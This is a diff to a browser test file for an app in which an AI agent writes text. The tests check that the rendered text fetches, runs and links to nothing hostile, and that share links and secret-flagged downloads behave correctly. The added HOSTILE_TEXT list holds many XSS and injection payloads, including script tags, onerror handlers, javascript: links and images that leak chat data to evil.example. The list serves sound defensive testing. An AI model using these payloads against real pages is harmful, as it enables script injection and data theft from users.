@@ -326,25 +326,109 @@ test("a proposed plan can be accepted", async () => {
   );
 });
 
-test("an image in the agent's text is never fetched and a dangerous link is no link", async () => {
+/** Each would fetch, run or lead somewhere if it were taken as it is meant. */
+const HOSTILE_TEXT = [
+  "Before ![secret](https://evil.example/?chat=1) and ![][ref] after",
+  "[ref]: https://evil.example/ref.png",
+  "<img src='https://evil.example/2' onerror='globalThis.ran = 1'> <svg onload='globalThis.ran = 1'><image href='https://evil.example/3'></svg>",
+  "<script>globalThis.ran = 1</script><script src='https://evil.example/4.js'></script>",
+  "<iframe src='https://evil.example/5'></iframe><object data='https://evil.example/6'></object><embed src='https://evil.example/7'>",
+  "<link rel=stylesheet href='https://evil.example/8.css'><style>@import 'https://evil.example/9.css'; * { background: url(https://evil.example/10) }</style>",
+  "<video src='https://evil.example/11' poster='https://evil.example/12'></video><audio src='https://evil.example/13'></audio>",
+  "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/14'>",
+  "<form action='https://evil.example/15'><input name=x><button>Send</button></form><p style='background:url(https://evil.example/16)'>styled</p>",
+  "[one](javascript:globalThis.ran=1) [two](data:text/html,<script>1</script>) [three](vbscript:x) [four](JaVaScRiPt:globalThis.ran=1) [five](blob:https://evil.example/x) [six](//evil.example/y) <javascript:globalThis.ran=1>",
+  "![a](data:image/svg+xml,<svg onload=alert(1)>) [good](https://good.example/page)",
+  '```mermaid\ngraph TD; A-->B; click A href "javascript:globalThis.ran=1"\n```',
+  "$$\\href{javascript:globalThis.ran=1}{x} \\includegraphics{https://evil.example/17}$$",
+  "```html\n<img src=https://evil.example/18 onerror='globalThis.ran=1'>\n```",
+  "The end",
+].join("\n\n");
+
+test("the agent's text loads nothing, runs nothing and leads nowhere but to the web, while it streams and after", async () => {
   await withStub({}, (stub) =>
     withPage({}, async (page) => {
       const asked: string[] = [];
       page.on("request", (request) => asked.push(request.url()));
-      const { path } = runningApp(stub, [
-        ...START,
-        {
-          type: "agent_text",
-          blockId: "b",
-          done: true,
-          text: "Before ![secret](https://evil.example/?chat=1) after [click](javascript:alert(1)) <img src='https://evil.example/2'> end",
-        },
-      ]);
+      const { generation, path } = runningApp(stub, START);
       await signIn(page, path);
-      await timeline(page).getByText("Before").waitFor();
-      expect(await timeline(page).locator("img").count()).toBe(0);
-      expect(await timeline(page).locator("a[href^='javascript']").count()).toBe(0);
-      expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
+      await page.waitForLoadState("networkidle");
+      // In pieces, so that every half-open mark is drawn as well.
+      const pieces = HOSTILE_TEXT.match(/[\s\S]{1,40}/g) ?? [];
+      for (const text of pieces)
+        stub.emit(generation.id, { type: "agent_text", blockId: "b", text, done: false });
+      const inPage = timeline(page);
+      const check = async () => {
+        await inPage.getByText("The end").waitFor();
+        const forbidden =
+          "img,script,iframe,object,embed,link,style,video,audio,base,meta,form,svg image,[style*='url'],[onerror],[onload]";
+        expect(await inPage.locator(".prose").locator(forbidden).count()).toBe(0);
+        const links = await inPage
+          .locator(".prose a[href]")
+          .evaluateAll((all) => all.map((link) => [link.getAttribute("href"), link.getAttribute("rel")]));
+        expect(links).toContainEqual(["https://good.example/page", "noopener noreferrer nofollow"]);
+        for (const [href, rel] of links)
+          expect([href, rel]).toEqual([expect.stringMatching(/^https:\/\//), "noopener noreferrer nofollow"]);
+        expect(await page.evaluate("globalThis.ran")).toBeUndefined();
+        expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
+      };
+      await check();
+      stub.emit(generation.id, { type: "agent_text", blockId: "b", text: "", done: true }, ...FINISH);
+      await inPage.getByText("Version 1 is ready").waitFor();
+      await check();
+    }),
+  );
+});
+
+test("an app is shared by a link that is shown once, counted and revoked", async () => {
+  await withStub({}, (stub) =>
+    withPage({ permissions: ["clipboard-read", "clipboard-write"] }, async (page) => {
+      const { path } = doneApp(stub);
+      await signIn(page, path);
+      await page.getByRole("button", { name: "Share" }).click();
+      await page.getByRole("button", { name: "Make a link" }).click();
+      const address = await page.getByLabel("Address of the new link").inputValue();
+      expect(address).toMatch(new RegExp(`^${stub.url}/s/leo_sh_`));
+      await page.getByRole("button", { name: "Copy", exact: true }).click();
+      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(address);
+      await page.keyboard.press("Escape");
+
+      for (const share of stub.shares.values()) {
+        share.seenCount = 2;
+        share.lastSeenAt = new Date().toISOString();
+      }
+      await page.reload();
+      await page.getByRole("button", { name: "Share" }).click();
+      await page.getByText("Opened 2 times, last just now").waitFor();
+      expect(await page.getByLabel("Address of the new link").count()).toBe(0);
+      await page.getByRole("button", { name: /^Revoke the link/ }).click();
+      await page.getByRole("list", { name: "Links that work" }).waitFor({ state: "detached" });
+      expect(stub.shares.size).toBe(0);
+    }),
+  );
+});
+
+test("files that hold what looks like secrets are downloaded only after a second word", async () => {
+  await withStub({}, (stub) =>
+    withPage({ allowedErrors: /status of 409/ }, async (page) => {
+      const { generation, path } = doneApp(stub);
+      const findings = [
+        { path: "src/api.ts", line: 7, kind: "GitHub token", inBundle: false },
+        { path: "dist/assets/index.js", line: 1, kind: "GitHub token", inBundle: true },
+      ];
+      const secrets = { digest: "seen", findings, count: 2 };
+      stub.versions.set(generation.id, { files: { ...FILES }, checks: [], secrets });
+      await signIn(page, `${path}?tab=versions`);
+      await page.getByRole("button", { name: "Download version 1" }).click();
+      const dialog = page.getByRole("alertdialog", { name: "This version holds what looks like secrets" });
+      await dialog.getByText("src/api.ts:7").waitFor();
+      await dialog.getByText("sent to every visitor").waitFor();
+      await dialog.getByRole("button", { name: "Cancel" }).click();
+      await dialog.waitFor({ state: "detached" });
+      await page.getByRole("button", { name: "Download version 1" }).click();
+      const download = page.waitForEvent("download");
+      await dialog.getByRole("button", { name: "Download anyway" }).click();
+      expect((await download).suggestedFilename()).toBe("version-1.zip");
     }),
   );
 });
